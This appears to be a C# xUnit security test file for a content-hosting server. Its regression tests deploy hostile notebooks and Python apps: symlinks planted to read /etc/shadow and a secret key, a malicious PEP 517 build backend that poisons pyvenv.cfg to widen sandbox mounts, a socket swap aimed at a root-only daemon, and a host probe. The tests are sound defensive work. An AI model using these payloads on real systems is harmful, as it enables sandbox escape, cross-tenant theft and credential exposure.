using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using Connect.Server.Tests.Infrastructure;
using Xunit.Abstractions;

namespace Connect.Server.Tests.Isolation;

/// <summary>
/// Holes found by the attack review (branch "attack"): each test states what must hold, and fails while the hole is open.
/// </summary>
public sealed class AttackTests(IsolationFixture server, ITestOutputHelper output) : IClassFixture<IsolationFixture>
{
    private static string E(string s) => Uri.EscapeDataString(s);

    private async Task<JsonObject> AskAsync(string guid, string path)
    {
        using var response = await server.Anonymous.GetAsync($"content/{guid}/{path}");
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{path}: {(int)response.StatusCode} {body}");
        output.WriteLine($"{path} -> {body}");
        return JsonNode.Parse(body)!.AsObject();
    }

    /// <summary>
    /// A notebook's cells can write its render output directory (the staging directory later moved to
    /// apps/&lt;guid&gt;/&lt;bundle&gt;.output). A symlink planted there is served by the front end, which runs as root and
    /// follows it: any host file is readable through the rendered content's URL.
    /// </summary>
    [Fact]
    public async Task A_notebook_cannot_plant_a_symlink_the_front_end_serves_as_root()
    {
        var guid = (await server.Admin.CreateContentAsync("attack-render-symlink", "all"))["guid"]!.GetValue<string>();
        var secretKey = Path.Combine(server.DataDir, "db", "secret.key");
        var source = $$"""
            import os
            out = None
            for p in os.listdir("/proc"):
                if p.isdigit():
                    try:
                        args = open("/proc/%s/cmdline" % p, "rb").read().split(b"\0")
                    except OSError:
                        continue
                    if b"--output-dir" in args:
                        out = args[args.index(b"--output-dir") + 1].decode()
            os.symlink({{System.Text.Json.JsonSerializer.Serialize(secretKey)}}, os.path.join(out, "leak.bin"))
            os.symlink("/etc/shadow", os.path.join(out, "shadow.txt"))
            print("LINKED-OUTCOME=" + out)
            """;
        var cell = new JsonObject
        {
            ["cell_type"] = "code", ["execution_count"] = null, ["metadata"] = new JsonObject(), ["outputs"] = new JsonArray(), ["source"] = source,
        };
        var notebook = new JsonObject
        {
            ["cells"] = new JsonArray(cell),
            ["metadata"] = new JsonObject { ["kernelspec"] = new JsonObject { ["display_name"] = "Python 3", ["language"] = "python", ["name"] = "python3" } },
            ["nbformat"] = 4, ["nbformat_minor"] = 5,
        };
        await server.Admin.DeployAsync(guid, Bundles.Create("jupyter-static",
            new Dictionary<string, string> { ["leak.ipynb"] = notebook.ToJsonString(), ["requirements.txt"] = "" },
            entrypoint: "leak.ipynb", pythonVersion: "3.11.2"));

        using var shadow = await server.Anonymous.GetAsync($"content/{guid}/shadow.txt");
        var shadowBody = await shadow.Content.ReadAsStringAsync();
        output.WriteLine($"shadow.txt: {(int)shadow.StatusCode} {shadowBody[..Math.Min(200, shadowBody.Length)]}");
        using var key = await server.Anonymous.GetAsync($"content/{guid}/leak.bin");
        var keyBytes = await key.Content.ReadAsByteArrayAsync();
        output.WriteLine($"leak.bin: {(int)key.StatusCode} {keyBytes.Length} bytes");

        Assert.False(shadow.StatusCode == HttpStatusCode.OK && shadowBody.StartsWith("root:", StringComparison.Ordinal),
            "an anonymous viewer read the host's /etc/shadow through a symlink the notebook planted: " + shadowBody[..Math.Min(80, shadowBody.Length)]);
        Assert.False(key.StatusCode == HttpStatusCode.OK && File.Exists(secretKey) && keyBytes.AsSpan().SequenceEqual(File.ReadAllBytes(secretKey)),
            "an anonymous viewer read the server's db/secret.key (which seals every content's environment variables) through a planted symlink");
    }

    /// <summary>
    /// Code run by pip at build time (here a PEP 517 backend shipped in the bundle, no network needed) writes the venv's
    /// pyvenv.cfg. The server reads its first "home" line (PythonSandbox.BaseInstallation) and ro-binds the parent of
    /// that directory into every later sandbox of the item; CPython uses the last "home" line, so the app still starts.
    /// Pointing it at &lt;data dir&gt;/x mounts the whole data directory: other content's sockets, work directories, bundles.
    /// </summary>
    [Fact]
    public async Task Build_time_code_cannot_choose_what_host_directory_the_app_sandbox_mounts()
    {
        var backend = """
            import base64, hashlib, os, sys, zipfile

            def _poison():
                venv = os.path.dirname(os.path.dirname(sys.executable))
                cfg = os.path.join(venv, "pyvenv.cfg")
                if not os.path.exists(cfg):
                    cfg = os.path.join(sys.prefix, "pyvenv.cfg")
                cwd = os.getcwd()
                data = cwd[:cwd.index("/apps/")]
                with open(cfg) as f:
                    original = f.read()
                if "connect-attack" not in original:
                    with open(cfg, "w") as f:
                        f.write("home = %s/connect-attack\n" % data + original)

            def get_requires_for_build_wheel(config_settings=None):
                _poison()
                return []

            def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
                _poison()
                files = {
                    "evilpkg-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n",
                    "evilpkg-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: attack\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
                }
                record = ""
                for name, data in files.items():
                    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
                    record += "%s,sha256=%s,%d\n" % (name, digest, len(data))
                record += "evilpkg-1.0.dist-info/RECORD,,\n"
                files["evilpkg-1.0.dist-info/RECORD"] = record.encode()
                wheel = "evilpkg-1.0-py3-none-any.whl"
                with zipfile.ZipFile(os.path.join(wheel_directory, wheel), "w") as z:
                    for name, data in files.items():
                        z.writestr(name, data)
                return wheel
            """;
        var files = new Dictionary<string, string>(HostileApp.Files)
        {
            ["requirements.txt"] = "./evilpkg\n",
            ["evilpkg/pyproject.toml"] = "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
            ["evilpkg/backend.py"] = backend,
        };

        var victim = (await server.Admin.CreateContentAsync("attack-victim", "all"))["guid"]!.GetValue<string>();
        await server.Admin.DeployAsync(victim, Bundles.Create("python-api", HostileApp.Files, entrypoint: "app", pythonVersion: "3.11.2"));
        await AskAsync(victim, "pid");
        var victimHome = (await AskAsync(victim, "whoami"))["home"]!.GetValue<string>();
        await AskAsync(victim, $"write?path={E(Path.Combine(victimHome, "private-state.txt"))}");

        var attacker = (await server.Admin.CreateContentAsync("attack-venv", "all"))["guid"]!.GetValue<string>();
        await server.Admin.DeployAsync(attacker, Bundles.Create("python-api", files, entrypoint: "app", pythonVersion: "3.11.2"));

        var jobs = (await server.Admin.GetFromJsonAsync<JsonArray>($"__api__/v1/content/{victim}/jobs"))!;
        var victimJob = jobs.Select(j => j!.AsObject()).Single(j => j["end_time"] is null)["key"]!.GetValue<string>();
        var victimSocket = Path.Combine(server.DataDir, "run", victimJob, "app.sock");

        var listing = await AskAsync(attacker, $"list?path={E(server.DataDir)}");
        var stolen = await AskAsync(attacker, $"read?path={E(Path.Combine(server.DataDir, "work", victim, "private-state.txt"))}");
        var socket = await AskAsync(attacker, $"connect_unix?path={E(victimSocket)}");
        var names = listing["ok"]!.GetValue<bool>() ? listing["value"]!.AsArray().Select(n => n!.GetValue<string>()).ToList() : [];

        Assert.False(socket["ok"]!.GetValue<bool>(), "the app connected straight to another item's socket " + victimSocket);
        Assert.False(stolen["ok"]!.GetValue<bool>(), "the app read another item's work directory");
        Assert.DoesNotContain("run", names);
        Assert.DoesNotContain("db", names);
    }

    /// <summary>
    /// The front end, as root, connects to data/run/&lt;job&gt;/app.sock, the socket directory mounted at /run/connect in
    /// the app's sandbox. An app that replaced app.sock by a link to a root-only socket of the host (docker.sock,
    /// snapd.socket…) would have the front end relay viewers' requests to it: the directory becomes root's once the
    /// app listens, and the front end connects only to a socket, never through a link.
    /// </summary>
    [Fact]
    [System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
    public async Task An_app_cannot_redirect_the_front_end_to_a_root_only_socket()
    {
        var hidden = Path.Combine(Path.GetTempPath(), "connect-attack-" + Guid.NewGuid().ToString("N"));
        Directory.CreateDirectory(hidden);
        File.SetUnixFileMode(hidden, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        var rootSocket = Path.Combine(hidden, "root-only.sock");
        using var listener = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.Unix, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Unspecified);
        listener.Bind(new System.Net.Sockets.UnixDomainSocketEndPoint(rootSocket));
        File.SetUnixFileMode(rootSocket, UnixFileMode.UserRead | UnixFileMode.UserWrite);
        listener.Listen(16);
        var hits = 0;
        using var cts = new CancellationTokenSource();
        _ = Task.Run(async () =>
        {
            while (!cts.IsCancellationRequested)
            {
                using var client = await listener.AcceptAsync(cts.Token);
                Interlocked.Increment(ref hits);
                var buffer = new byte[8192];
                await client.ReceiveAsync(buffer, System.Net.Sockets.SocketFlags.None);
                var body = "ROOT-ONLY-DAEMON-ANSWERED";
                await client.SendAsync(System.Text.Encoding.ASCII.GetBytes($"HTTP/1.1 200 OK\r\nContent-Length: {body.Length}\r\nConnection: close\r\n\r\n{body}"), System.Net.Sockets.SocketFlags.None);
            }
        });
        var app = """
            import os
            from flask import Flask, jsonify, request
            app = Flask(__name__)
            @app.get("/swap")
            def swap():
                try:
                    os.symlink(request.args["target"], "/run/connect/evil")
                    os.rename("/run/connect/evil", "/run/connect/app.sock")
                    return jsonify(ok=True)
                except OSError as e:
                    return jsonify(ok=False, error=str(e))
            @app.get("/hello")
            def hello():
                return "app"
            """;
        var guid = (await server.Admin.CreateContentAsync("attack-socket-swap", "all"))["guid"]!.GetValue<string>();
        await server.Admin.DeployAsync(guid, Bundles.Create("python-api", new Dictionary<string, string> { ["app.py"] = app, ["requirements.txt"] = "" }, entrypoint: "app", pythonVersion: "3.11.2"));
        // Refused (the directory is root's once the app listens), or done and then ignored by the front end.
        await AskAsync(guid, $"swap?target={E(rootSocket)}");
        var answers = await Task.WhenAll(Enumerable.Range(0, 8).Select(async _ => await (await server.Anonymous.GetAsync($"content/{guid}/hello")).Content.ReadAsStringAsync()));
        output.WriteLine(string.Join(" | ", answers));
        await cts.CancelAsync();
        listener.Close();
        Directory.Delete(hidden, recursive: true);
        Assert.False(hits > 0 || answers.Any(a => a.Contains("ROOT-ONLY-DAEMON", StringComparison.Ordinal)),
            $"the front end (root) connected {hits} time(s) to a root-only socket the app pointed app.sock at: {string.Join(" | ", answers)}");
    }

    /// <summary>Not a hole by itself: what the host network looks like from content, for the report.</summary>
    [Fact]
    public async Task Probe_network_and_devices()
    {
        var guid = (await server.Admin.CreateContentAsync("attack-probe", "all"))["guid"]!.GetValue<string>();
        var probe = """
            import os, socket, glob
            from flask import Flask, jsonify, request
            app = Flask(__name__)
            def tcp(host, port, fam=socket.AF_INET):
                try:
                    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(2); s.connect((host, port)); s.close(); return "CONNECTED"
                except Exception as e:
                    return type(e).__name__ + ": " + str(e)
            def rd(p, n=400):
                try:
                    with open(p, "rb") as f: return f.read(n).decode(errors="replace")
                except Exception as e: return type(e).__name__ + ": " + str(e)
            def ls(p):
                try: return sorted(os.listdir(p))[:60]
                except Exception as e: return type(e).__name__ + ": " + str(e)
            def abstract():
                out = []
                try:
                    for line in open("/proc/net/unix"):
                        f = line.split()
                        if len(f) >= 8 and f[7].startswith("@"): out.append(f[7])
                except Exception as e: out.append(str(e))
                return out[:50]
            def udp(host, port):
                try:
                    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b"x", (host, port)); return "SENT"
                except Exception as e: return type(e).__name__ + ": " + str(e)
            @app.get("/probe")
            def probe():
                a = request.args
                silo, kestrel, ip = int(a["silo"]), int(a["kestrel"]), a["ip"]
                return jsonify(
                    silo_eth0=tcp(ip, silo), kestrel_eth0=tcp(ip, kestrel), kestrel_v6=tcp("::1", kestrel, socket.AF_INET6),
                    silo_v6=tcp("::1", silo, socket.AF_INET6), kestrel_v4mapped=tcp("::ffff:127.0.0.1", kestrel, socket.AF_INET6),
                    silo_0000=tcp("0.0.0.0", silo), udp_local=udp("127.0.0.1", 53),
                    abstract=abstract(), proc_net_tcp=rd("/proc/net/tcp", 600), sys_ls=ls("/sys"), sys_class_net=ls("/sys/class/net"),
                    sys_cgroup=ls("/sys/fs/cgroup"), dev=ls("/dev"), mounts=rd("/proc/self/mountinfo", 4000),
                    proc_cgroup=rd("/proc/self/cgroup"), run=ls("/run"), uid_map=rd("/proc/self/uid_map"),
                    setuid=[p for p in glob.glob("/usr/bin/*") if os.path.exists(p) and os.stat(p).st_mode & 0o4000][:20],
                    statvfs_home=str(os.statvfs(os.environ["HOME"])))
            """;
        await server.Admin.DeployAsync(guid, Bundles.Create("python-api", new Dictionary<string, string> { ["app.py"] = probe, ["requirements.txt"] = "" }, entrypoint: "app", pythonVersion: "3.11.2"));
        await AskAsync(guid, $"probe?silo={server.SiloPort}&kestrel={server.BaseAddress.Port}&ip=192.0.2.2");
    }
}
